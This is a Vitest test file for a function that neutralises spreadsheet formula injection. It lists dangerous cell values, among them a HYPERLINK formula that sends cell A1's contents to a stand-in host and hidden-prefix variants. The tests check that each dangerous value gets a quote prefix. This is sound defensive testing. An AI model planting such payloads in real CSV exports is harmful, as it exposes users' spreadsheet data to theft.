import { describe, expect, test } from "vitest";
import { looksLikeFormula, neutralised } from "./spreadsheet";

const dangerous = [
  '=HYPERLINK("http://example.test/?x="&A1,"open")',
  "+1+1",
  "-2+3",
  "@SUM(1+9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff@x",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "\tharmless after a tab",
];
const harmless = ["", "AZ 1/25", '"=1+1"', "'=already-quoted", "|calc", "%0A=1+1", "a=b", "Abt. 12 - Köln", " plain"];

describe("a cell for a spreadsheet", () => {
  test.each(dangerous)("%j is shown, not run", (cell) => {
    expect(looksLikeFormula(cell)).toBe(true);
    expect(neutralised(cell)).toBe(`'${cell}`);
  });

  test.each(harmless)("%j stays as it is", (cell) => {
    expect(looksLikeFormula(cell)).toBe(false);
    expect(neutralised(cell)).toBe(cell);
  });

  test("is neutral once, and stays so", () => {
    for (const cell of dangerous) expect(neutralised(neutralised(cell))).toBe(neutralised(cell));
  });
});
